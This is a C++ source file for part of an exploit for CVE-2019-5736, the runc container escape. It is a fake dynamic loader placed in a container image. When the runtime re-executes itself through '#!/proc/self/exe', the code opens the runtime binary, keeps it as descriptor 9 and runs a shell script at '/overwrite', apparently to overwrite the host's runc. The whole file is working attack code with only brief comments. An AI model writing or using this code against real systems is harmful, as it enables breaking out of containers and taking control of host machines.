// SPDX-License-Identifier: Apache-2.0
// CVE-2019-5736's second half. An image whose entrypoint says "#!/proc/self/exe" has the kernel
// run, inside the container, the very program that starts containers; its dynamic loader is the
// image's, and this is it. It keeps the program's file open as descriptor 9 and goes on as a shell.
#if !defined(__x86_64__)
#error "written for x86_64 only"
#endif

#include <sys/syscall.h>

namespace {

long call(long number, const void* a, long b, const void* c) {
  long answer;
  __asm__ volatile("syscall"
                   : "=a"(answer)
                   : "a"(number), "D"(a), "S"(b), "d"(c)
                   : "rcx", "r11", "memory");
  return answer;
}

}  // namespace

// The kernel enters with an aligned stack, a compiler expects one that a call has just pushed to.
extern "C" [[noreturn, gnu::force_align_arg_pointer]] void _start() {
  const long program = call(SYS_open, "/proc/self/exe", 0, nullptr);
  call(SYS_dup2, reinterpret_cast<const void*>(program), 9, nullptr);
  const char* arguments[] = {"sh", "/overwrite", nullptr};
  const char* environment[] = {"PATH=/bin", nullptr};
  call(SYS_execve, "/bin/sh", reinterpret_cast<long>(arguments), environment);
  call(SYS_exit, nullptr, 0, nullptr);
  for (;;) {
  }
}
